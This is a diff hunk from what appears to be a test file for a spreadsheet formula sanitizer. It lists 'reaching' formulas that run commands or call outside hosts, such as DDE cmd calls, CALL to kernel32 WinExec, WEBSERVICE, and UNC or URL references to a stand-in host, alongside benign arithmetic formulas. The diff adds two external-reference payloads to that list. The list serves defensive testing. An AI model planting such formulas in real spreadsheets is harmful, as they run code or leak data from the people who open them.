@@ -26,7 +26,7 @@ MEASURES = ["事项", "做法", "频次", "数量", "计量单位"]
 REACHING = [
     "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://lawnb.invalid/\"&A1,\"点\")", "=WEBSERVICE(A1)", "=_xlfn.WEBSERVICE(A1)", "=[x.xlsx]Sheet1!A1", "='[x.xlsx]Sheet1'!A1", "='\\\\lawnb.invalid\\[x.xlsx]S'!A1",
     "=RTD(\"x\",,\"y\")", "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",1)", "=INDIRECT(A1)", "=EXEC(\"calc\")", "=IMAGE(A1)", "=IMPORTXML(A1,\"//a\")", "=own_name", "=SUM(cmd|'x'!A1)", "=IF(1,WEBSERVICE(A1),0)", "=FILTERXML(A1,\"//a\")", "=LAMBDA(x,x)(1)",
-    "=REGISTER(\"x\",\"y\")", "=CUBEVALUE(\"x\",\"y\")", "=SQL.REQUEST(\"x\")", "=STOCKHISTORY(\"x\",1)",
+    "=REGISTER(\"x\",\"y\")", "=CUBEVALUE(\"x\",\"y\")", "=SQL.REQUEST(\"x\")", "=STOCKHISTORY(\"x\",1)", "='\\\\lawnb.invalid\\x.xlsx'!A1", "='https://lawnb.invalid/x'!A1",
 ]  # fmt: skip
 COMPUTING = ["=1+1", "=SUM(A1:B2)", "=Sheet1!A1*2", "='表 一'!$A$1", "=IF(A1>0,\"是\",\"否\")", "=SUMIFS(C:C,A:A,\"甲\")", "=ROUND(AVERAGE(1:3),2)", "=_xlfn.CONCAT(A1,B1)", "=-A1%", "={1,2}"]
 
